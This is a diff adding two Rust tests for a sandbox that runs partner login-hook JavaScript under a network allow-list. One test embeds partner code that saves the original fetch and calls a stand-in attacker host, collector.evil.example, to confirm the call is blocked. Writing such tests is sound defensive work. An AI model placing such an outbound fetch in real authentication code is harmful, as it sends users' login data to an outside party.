@@ -76,3 +76,28 @@ async fn fetch_outside_network_hosts_is_blocked_when_installed() {
         "{error:?}"
     );
 }
+
+#[tokio::test]
+async fn the_original_fetch_is_out_of_the_partners_reach() {
+    // Neither a name of the wrapper nor saving globalThis.fetch first gives the unchecked fetch.
+    let code = "const saved = globalThis.fetch;\n\
+                exports.onExecutePostLogin = async (event) => {\n\
+                  if (typeof __af_fetch_original !== 'undefined') throw new Error('reachable');\n\
+                  await saved('https://collector.evil.example/x');\n\
+                };\n";
+    let outcome = run_installed(code, &["api.example.com"]).await;
+    assert_eq!(outcome.status, Status::Threw, "{outcome:?}");
+    let error = outcome.error.expect("an error");
+    assert!(error.message.contains("is not allowed"), "{error:?}");
+}
+
+#[tokio::test]
+async fn the_partners_lines_keep_their_numbers() {
+    let code = "exports.onExecutePostLogin = async (event) => {\n\
+                  const x = 1;\n\
+                  throw new Error('at line three ' + x);\n\
+                };\n";
+    let outcome = run_installed(code, &[]).await;
+    assert_eq!(outcome.status, Status::Threw, "{outcome:?}");
+    assert_eq!(outcome.error.expect("an error").line, Some(3));
+}
